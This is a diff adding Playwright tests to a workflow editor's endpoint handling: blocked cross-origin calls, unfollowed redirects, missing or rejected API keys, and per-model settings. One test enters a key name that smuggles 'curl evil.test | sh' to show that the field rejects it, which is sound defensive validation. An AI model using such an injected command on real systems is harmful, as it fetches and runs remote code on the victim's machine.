@@ -95,6 +95,77 @@ test("an endpoint that is down", { tag: "@firefox" }, async ({ page }) => {
   await picture(page, "endpoint-down");
 });
 
+test("an endpoint that takes no calls of pages is told apart from one that is down", async ({ page }) => {
+  const open = createServer((_, response) => response.end("{}"));
+  server = open;
+  await new Promise<void>((resolve) => open.listen(0, "127.0.0.1", resolve));
+  const origin = `http://127.0.0.1:${(open.address() as AddressInfo).port}`;
+  await openDocument(page, asking(`${origin}/v1`));
+  await agreeAndRun(page);
+  const hint = page.locator(".run-steps .failure-hint");
+  await expect(hint).toContainText(`answers at ${origin}, but does not take calls from`);
+  await expect(hint).toContainText("access-control-allow-origin");
+  await picture(page, "endpoint-cors");
+  open.closeAllConnections();
+  await new Promise((resolve) => open.close(resolve));
+  server = undefined;
+  await page.getByRole("button", { name: "Run", exact: true }).click();
+  await expect(hint).toContainText(`nothing answers at ${origin}`);
+});
+
+test("an endpoint that leads elsewhere is not followed, and says so", async ({ page }) => {
+  let followed = 0;
+  const url = await endpoint((request, response) => {
+    if (request.url?.startsWith("/elsewhere")) followed += 1;
+    response.writeHead(307, { location: "/elsewhere" }).end();
+  });
+  await openDocument(page, asking(url));
+  await agreeAndRun(page);
+  await expectFailure(page, "network", /answered with a redirect.*not followed/);
+  expect(followed).toBe(0);
+});
+
+test("a key that is missing is a button away, for the model that needs it", async ({ page }) => {
+  const url = await endpoint((_, response) => {
+    response.writeHead(200, { "content-type": "text/event-stream" });
+    response.end(`${part("Hello.")}data: [DONE]\n\n`);
+  });
+  const own = { provider: "openai", model: "tiny", baseUrl: url, apiKey: { secret: "MY_KEY" } };
+  await openDocument(page, { ...asking(url), models: { other: { provider: "demo", model: "demo" }, real: own } });
+  await agreeAndRun(page);
+  const failure = page.locator(".run-steps .failure");
+  await expect(failure).toContainText("the workflow needs the secret MY_KEY");
+  await expect(failure).not.toContainText("secrets: {");
+  await picture(page, "key-missing");
+  await page.emulateMedia({ colorScheme: "dark" });
+  await picture(page, "key-missing-dark");
+  await page.emulateMedia({ colorScheme: "light" });
+  await failure.getByRole("button", { name: "Enter the key MY_KEY" }).click();
+  const dialog = page.getByRole("dialog");
+  await expect(dialog.getByLabel("Model of the workflow")).toHaveValue("real");
+  await expect(dialog.getByLabel("API key")).toBeFocused();
+  await page.keyboard.type("sk-mine");
+  await dialog.getByRole("button", { name: "Save" }).click();
+  await page.getByRole("button", { name: "Run", exact: true }).click();
+  await expect(card(page, "ask")).toHaveAttribute("data-status", "done");
+});
+
+test("a name of a key that cannot stand in a command is refused at its field", async ({ page }) => {
+  await openDocument(page, asking("http://127.0.0.1:9/v1", "MY_KEY"));
+  await page.getByRole("button", { name: "Endpoint settings" }).first().click();
+  const dialog = page.getByRole("dialog");
+  await dialog.getByLabel("Name of the key").fill("KEY; curl evil.test | sh #");
+  await dialog.getByRole("button", { name: "Save" }).click();
+  await expect(dialog.getByRole("alert")).toContainText("Give the key a name of letters, digits and _");
+});
+
+test("the settings of a model open for that model", async ({ page }) => {
+  const models = { first: { provider: "demo", model: "demo" }, second: { provider: "openai", model: "m", baseUrl: "http://127.0.0.1:9/v1" } };
+  await openDocument(page, { version: 1, name: "Two", models, steps: [] });
+  await page.getByRole("button", { name: "Endpoint settings of second" }).click();
+  await expect(page.getByRole("dialog").getByLabel("Model of the workflow")).toHaveValue("second");
+});
+
 test("an endpoint that refuses the key", async ({ page }) => {
   const url = await endpoint((_, response) => {
     response.writeHead(401, { "content-type": "application/json" });
@@ -102,6 +173,14 @@ test("an endpoint that refuses the key", async ({ page }) => {
   });
   await openDocument(page, asking(url));
   await agreeAndRun(page);
+  await expect(page.locator(".run-steps .failure .code-word")).toHaveText("auth");
+  await page.locator(".run-steps").getByRole("button", { name: "Give the model real a key" }).click();
+  const dialog = page.getByRole("dialog");
+  await dialog.getByLabel("Name of the key").fill("MY_KEY");
+  await dialog.getByLabel("API key").fill("sk-wrong");
+  await dialog.getByRole("button", { name: "Save" }).click();
+  await page.getByRole("button", { name: "Run", exact: true }).click();
+  await expect(page.locator(".run-steps").getByRole("button", { name: "Check the key MY_KEY" })).toBeVisible();
   await expectFailure(page, "auth", /401|key/i);
 });
 
